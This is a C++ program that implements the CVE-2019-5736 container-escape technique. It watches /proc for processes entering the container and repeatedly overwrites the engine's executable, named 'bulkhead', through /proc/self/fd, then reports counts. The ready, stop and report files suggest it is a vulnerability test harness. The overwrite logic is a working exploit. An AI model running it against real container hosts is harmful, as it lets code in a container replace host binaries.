// CVE-2019-5736: gets hold of the executable of every process that enters the container, and writes over it, while it runs
// and after it has ended. Ends when the file /stop is there; then says what it got: "seen N held N written N".
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

int seen = 0;
int held = 0;
int written = 0;

std::string link_of(const std::string& path) {
  char text[512];
  const ssize_t size = readlink(path.c_str(), text, sizeof text);
  return size < 0 ? "" : std::string(text, static_cast<std::size_t>(size));
}

bool is_engines(const std::string& target) { return target.find("bulkhead") != std::string::npos; }

void write_over(int handle) {
  const std::string path = "/proc/self/fd/" + std::to_string(handle);
  for (const int flags : {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND}) {
    const int file = open(path.c_str(), flags);
    if (file < 0) continue;
    if (write(file, "#!/bin/evil\n", 12) > 0 || ftruncate(file, 1) == 0) written++;
    close(file);
  }
}

void attack(const std::string& pid) {
  const std::string exe = "/proc/" + pid + "/exe";
  const int handle = open(exe.c_str(), O_PATH);
  if (handle < 0) return;
  // Asked of what is held: the name of the process may mean another program by now.
  if (is_engines(link_of("/proc/self/fd/" + std::to_string(handle)))) {
    held++;
    // Busy while it runs; then it has ended or executed.
    for (int i = 0; i < 50; i++) write_over(handle), usleep(200);
  }
  close(handle);
}

}  // namespace

int main() {
  std::set<std::string> known{std::to_string(getpid())};
  fclose(fopen("/ready", "w"));
  while (access("/stop", F_OK) != 0) {
    DIR* processes = opendir("/proc");
    while (const dirent* entry = readdir(processes)) {
      if (atoi(entry->d_name) <= 1 || known.count(entry->d_name) != 0) continue;
      seen++;
      attack(entry->d_name);
    }
    closedir(processes);
  }
  FILE* report = fopen("/report.new", "w");
  fprintf(report, "seen %d held %d written %d\n", seen, held, written);
  fclose(report);
  rename("/report.new", "/report");
}
